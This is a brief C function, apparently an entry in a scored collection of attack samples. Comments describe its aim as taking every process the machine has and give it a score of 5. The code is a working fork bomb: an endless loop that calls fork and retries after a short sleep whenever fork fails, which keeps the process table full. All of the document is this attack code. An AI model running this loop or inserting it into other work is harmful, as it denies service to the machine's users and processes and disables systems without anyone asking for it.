// tries: to take every process that the machine has, and again each that ends
// score: 5
// says: printed nothing
static void attack(void)
{
    for (;;)
        if (fork() < 0)
            usleep(100000);
}
